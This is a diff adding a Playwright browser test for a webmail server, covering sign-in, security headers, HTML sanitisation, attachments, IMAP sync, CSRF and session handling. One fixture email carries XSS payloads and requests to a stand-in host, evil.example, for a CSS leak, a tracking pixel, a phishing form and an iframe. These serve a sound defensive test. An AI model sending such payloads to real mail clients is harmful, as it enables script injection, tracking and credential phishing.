@@ -1,0 +1,316 @@
+"""Webmail in a real browser: Debian's Chromium driven by Playwright.
+
+Run by `tests/it/browser.rs` against one `cargo xtask serve` (one serve
+for every scenario here, to keep CI short). Arguments: the HTTPS base URL,
+the SMTP address (host:port), the IMAP address, two users and their
+password, and the directory for screenshots. Every check raises on
+failure; the last line printed is "webmail: all checks passed".
+"""
+
+import argparse
+import email.message
+import imaplib
+import os
+import smtplib
+import sys
+import time
+
+from playwright.sync_api import expect, sync_playwright
+
+ap = argparse.ArgumentParser()
+ap.add_argument("--base", required=True)
+ap.add_argument("--smtp", required=True)
+ap.add_argument("--imap", required=True)
+ap.add_argument("--alice", required=True)
+ap.add_argument("--bob", required=True)
+ap.add_argument("--password", required=True)
+ap.add_argument("--shots", required=True)
+args = ap.parse_args()
+os.makedirs(args.shots, exist_ok=True)
+host, port = args.smtp.rsplit(":", 1)
+ATTACHMENT = bytes(range(256)) * 300  # 76,800 bytes, every byte value
+
+
+def send(msg):
+    msg["From"] = msg.get("From") or "Carol <carol@example.org>"
+    msg["To"] = args.alice
+    with smtplib.SMTP(host, int(port), timeout=30) as s:
+        s.send_message(msg)
+
+
+plain = email.message.EmailMessage()
+plain["Subject"] = "Hello from SMTP"
+plain.set_content("First line of the body.\nSecond line, with the word pineapple.\n")
+send(plain)
+
+hostile = email.message.EmailMessage()
+hostile["Subject"] = "Hostile HTML"
+hostile.set_content("text part")
+hostile.add_alternative(
+    """<html><head><style>body{background:url(https://evil.example/css-leak)}</style>
+<script>parent.window.__pwned = 1; alert('script');</script></head>
+<body onload="alert('onload')"><p id="hello">Visible paragraph</p>
+<img src="x" onerror="alert('onerror')">
+<a id="js" href="javascript:alert('link')">click me</a>
+<img src="https://evil.example/pixel.gif" alt="tracker">
+<div style="background:url(https://evil.example/style-leak)">styled</div>
+<form action="https://evil.example/phish"><input name="password"></form>
+<iframe src="https://evil.example/frame"></iframe>
+<svg><script>alert('svg')</script></svg>
+</body></html>""",
+    subtype="html",
+)
+send(hostile)
+
+with_file = email.message.EmailMessage()
+with_file["Subject"] = "Report attached"
+with_file.set_content("See the attached file.")
+with_file.add_attachment(
+    ATTACHMENT, maintype="application", subtype="octet-stream", filename="données.bin"
+)
+send(with_file)
+
+for i in range(3):
+    m = email.message.EmailMessage()
+    m["Subject"] = f"Bulk {i}"
+    m.set_content(f"bulk message {i}")
+    send(m)
+
+external = []
+dialogs = []
+
+
+def check(cond, what):
+    if not cond:
+        raise AssertionError(what)
+    print("ok:", what, flush=True)
+
+
+with sync_playwright() as p:
+    browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
+    ctx = browser.new_context(ignore_https_errors=True, accept_downloads=True)
+
+    # Nothing may leave loopback: every other request is recorded and aborted.
+    def guard(route):
+        url = route.request.url
+        if url.startswith(args.base):
+            route.continue_()
+        else:
+            external.append(url)
+            route.abort()
+
+    ctx.route("**/*", guard)
+    page = ctx.new_page()
+    confirms = []
+
+    def on_dialog(d):
+        # A confirmation the test asked for is accepted; anything else is
+        # a dialog some content opened, recorded and dismissed.
+        if confirms and d.type == "confirm":
+            confirms.pop()
+            d.accept()
+        else:
+            dialogs.append(d.message)
+            d.dismiss()
+
+    page.on("dialog", on_dialog)
+
+    # Signed out: / leads to the sign-in page.
+    page.goto(args.base + "/")
+    expect(page.get_by_role("button", name="Sign in")).to_be_visible()
+    check("/signin" in page.url, "/ redirects to the sign-in page")
+    headers = page.request.get(args.base + "/signin").headers
+    csp = headers.get("content-security-policy", "")
+    check("script-src 'self'" in csp and "unsafe-inline" not in csp.split("style-src")[0], "CSP without inline scripts")
+    check("frame-ancestors 'none'" in csp, "frame-ancestors 'none'")
+    check(headers.get("x-content-type-options") == "nosniff", "nosniff")
+    check("max-age" in headers.get("strict-transport-security", ""), "HSTS")
+    page.screenshot(path=os.path.join(args.shots, "signin.png"))
+
+    # Wrong password.
+    page.get_by_label("Email address").fill(args.alice)
+    page.get_by_label("Password").fill("not the password")
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_role("alert")).to_contain_text("Wrong email address or password")
+
+    # Sign in.
+    page.get_by_label("Email address").fill(args.alice)
+    page.get_by_label("Password").fill(args.password)
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
+    cookies = {c["name"]: c for c in ctx.cookies()}
+    c = cookies.get("outpost_session")
+    check(c is not None and c["httpOnly"] and c["secure"] and c["sameSite"] in ("Lax", "Strict"), "session cookie HttpOnly, Secure, SameSite")
+
+    # The SMTP-delivered messages are listed, unread, newest first.
+    rows = page.locator("table.messages tbody tr")
+    expect(rows).to_have_count(6)
+    expect(page.locator("tr.unseen")).to_have_count(6)
+    expect(page.get_by_role("link", name="Inbox 6 unread")).to_be_visible()
+    check(rows.first.inner_text().find("Bulk 2") >= 0, "newest first")
+    page.screenshot(path=os.path.join(args.shots, "inbox.png"), full_page=True)
+
+    # Open the plain message: body shown, marked read.
+    page.get_by_role("link", name="Hello from SMTP").click()
+    expect(page.get_by_role("heading", name="Hello from SMTP")).to_be_visible()
+    expect(page.locator("pre.body")).to_contain_text("Second line, with the word pineapple.")
+    expect(page.locator("dl.headers")).to_contain_text("carol@example.org")
+    page.screenshot(path=os.path.join(args.shots, "message.png"), full_page=True)
+    page.go_back()
+    page.reload()
+    expect(page.locator("tr.unseen")).to_have_count(5)
+
+    # The hostile HTML message: shown, nothing of it ran or loaded.
+    page.get_by_role("link", name="Hostile HTML").click()
+    frame_el = page.locator("iframe.body")
+    expect(frame_el).to_be_visible()
+    check(frame_el.get_attribute("sandbox") is not None, "HTML body in a sandboxed frame")
+    frame = page.frame_locator("iframe.body")
+    expect(frame.get_by_text("Visible paragraph")).to_be_visible()
+    check(frame.locator("script").count() == 0, "no script element in the frame")
+    check(frame.locator("[onerror], [onload]").count() == 0, "no event handler attributes")
+    check(frame.locator("form, iframe, style").count() == 0, "no form, iframe or style")
+    link = frame.get_by_text("click me")
+    href = link.get_attribute("href")
+    check(href is None or not href.lower().startswith("javascript"), "javascript: link removed")
+    link.click()
+    time.sleep(1)
+    check(page.evaluate("window.__pwned") is None, "nothing ran in the page")
+    check(dialogs == [], f"no dialog opened: {dialogs}")
+    expect(page.get_by_text("remote image(s) blocked")).to_be_visible()
+    check(not any("evil.example" in u for u in external), f"no request left the server: {external}")
+    page.screenshot(path=os.path.join(args.shots, "html-message.png"), full_page=True)
+
+    # Attachment: listed by name, downloaded byte for byte.
+    page.goto(args.base + "/mail/")
+    page.get_by_role("link", name="Report attached").click()
+    link = page.get_by_role("link", name="données.bin")
+    expect(link).to_be_visible()
+    with page.expect_download() as dl:
+        link.click()
+    d = dl.value
+    check(d.suggested_filename == "données.bin", f"attachment name {d.suggested_filename!r}")
+    data = open(d.path(), "rb").read()
+    check(data == ATTACHMENT, f"attachment bytes identical ({len(data)} bytes)")
+
+    # View source.
+    src = page.request.get(args.base + page.get_by_role("link", name="View source").get_attribute("href"))
+    check(src.status == 200 and b"Subject: Report attached" in src.body(), "view source")
+
+    # Search by a body word: only that message.
+    page.goto(args.base + "/mail/")
+    page.get_by_label("Search").fill("pineapple")
+    page.get_by_label("Search").press("Enter")
+    expect(rows).to_have_count(1)
+    expect(rows.first).to_contain_text("Hello from SMTP")
+    page.screenshot(path=os.path.join(args.shots, "search.png"))
+
+    # Move one message to Archive, delete another (to Trash).
+    page.goto(args.base + "/mail/")
+    page.get_by_role("checkbox", name="Select message Bulk 0").check()
+    page.get_by_label("Move to").select_option("Archive")
+    page.get_by_role("button", name="Move", exact=True).click()
+    expect(rows).to_have_count(5)
+    page.get_by_role("checkbox", name="Select message Bulk 1").check()
+    page.get_by_role("button", name="Delete", exact=True).click()
+    expect(rows).to_have_count(4)
+    page.get_by_role("link", name="Archive").click()
+    expect(rows).to_have_count(1)
+    expect(rows.first).to_contain_text("Bulk 0")
+
+    # IMAP sees the same mailbox at once.
+    ihost, iport = args.imap.rsplit(":", 1)
+    im = imaplib.IMAP4(ihost, int(iport))
+    im.login(args.alice, args.password)
+    for folder, want in (("INBOX", 4), ("Archive", 1), ("Trash", 1)):
+        typ, data = im.select(folder)
+        check(typ == "OK" and int(data[0]) == want, f"IMAP: {folder} holds {want} (got {data[0]!r})")
+    im.select("INBOX")
+    typ, data = im.search(None, "UNSEEN")
+    unseen = data[0].split()
+    check(len(unseen) == 1, f"IMAP: the three opened messages are \\Seen, one is not ({data!r})")
+    typ, data = im.fetch(unseen[0], "(BODY.PEEK[HEADER.FIELDS (SUBJECT)])")
+    check(b"Bulk 2" in data[0][1], f"IMAP: the unopened one is Bulk 2 ({data!r})")
+    im.logout()
+
+    # Delete from Trash expunges.
+    page.get_by_role("link", name="Trash").click()
+    expect(rows).to_have_count(1)
+    page.get_by_role("checkbox", name="Select message Bulk 1").check()
+    page.get_by_role("button", name="Delete", exact=True).click()
+    expect(page.get_by_text("No messages.")).to_be_visible()
+
+    # Folders: create, rename, delete.
+    page.get_by_role("link", name="Manage folders").click()
+    page.get_by_label("New folder").fill("Projects")
+    page.get_by_role("button", name="Create folder").click()
+    expect(page.get_by_role("status")).to_contain_text("created")
+    expect(page.locator("nav.folders").get_by_role("link", name="Projects")).to_be_visible()
+    page.get_by_label("Rename folder").select_option("Projects")
+    page.get_by_label("New name").fill("Plans")
+    page.get_by_role("button", name="Rename").click()
+    expect(page.locator("nav.folders").get_by_role("link", name="Plans")).to_be_visible()
+    page.get_by_label("Delete folder").select_option("Plans")
+    confirms.append(1)
+    page.get_by_role("button", name="Delete folder").click()
+    expect(page.locator("nav.folders").get_by_role("link", name="Plans")).to_have_count(0)
+
+    # CSRF: a post without the token, and one from another origin, are refused.
+    r = page.request.post(args.base + "/mail/act", form={"f": "INBOX", "do": "read", "uid": "1"})
+    check(r.status == 403, f"post without CSRF token refused ({r.status})")
+    token = page.locator("input[name=csrf]").first.get_attribute("value")
+    r = page.request.post(
+        args.base + "/mail/act",
+        form={"csrf": token, "f": "INBOX", "do": "read", "uid": "1"},
+        headers={"Origin": "https://evil.example"},
+        max_redirects=0,
+    )
+    check(r.status == 403, f"post from another origin refused ({r.status})")
+    r = page.request.post(
+        args.base + "/mail/act",
+        form={"csrf": token, "f": "INBOX", "do": "flag", "uid": "1"},
+        max_redirects=0,
+    )
+    check(r.status == 303, f"the same post with token and origin works ({r.status})")
+
+    # A non-admin cannot reach the admin console.
+    r = page.request.get(args.base + "/admin/")
+    check(r.status == 403, f"non-admin gets 403 at /admin/ ({r.status})")
+
+    # Phone-sized screen: the list still shows subject links.
+    page.set_viewport_size({"width": 390, "height": 800})
+    page.goto(args.base + "/mail/")
+    expect(page.get_by_role("link", name="Hello from SMTP")).to_be_visible()
+    page.screenshot(path=os.path.join(args.shots, "inbox-phone.png"), full_page=True)
+    page.set_viewport_size({"width": 1280, "height": 800})
+
+    # Keyboard: j selects the first row, Enter opens it.
+    page.keyboard.press("j")
+    page.keyboard.press("Enter")
+    expect(page.locator("main.message")).to_be_visible()
+
+    # Sign out ends the session on the server: the old cookie is worthless.
+    old = [c for c in ctx.cookies() if c["name"] == "outpost_session"]
+    page.goto(args.base + "/mail/")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("button", name="Sign in")).to_be_visible()
+    ctx2 = browser.new_context(ignore_https_errors=True)
+    ctx2.add_cookies(old)
+    r = ctx2.request.get(args.base + "/mail/", max_redirects=0)
+    check(r.status == 303 and "/signin" in r.headers.get("location", ""), f"old cookie after sign-out is refused ({r.status})")
+
+    # Bob signs in in another browser and sees only his own (empty) inbox.
+    p2 = ctx2.new_page()
+    ctx2.route("**/*", guard)
+    p2.goto(args.base + "/signin")
+    p2.get_by_label("Email address").fill(args.bob)
+    p2.get_by_label("Password").fill(args.password)
+    p2.get_by_role("button", name="Sign in").click()
+    expect(p2.get_by_text("No messages.")).to_be_visible()
+    r = ctx2.request.get(args.base + "/mail/msg?f=INBOX&uid=1")
+    check(r.status == 404, f"Bob cannot open Alice's message ({r.status})")
+
+    check(not external, f"no request left loopback: {external}")
+    browser.close()
+
+print("webmail: all checks passed")
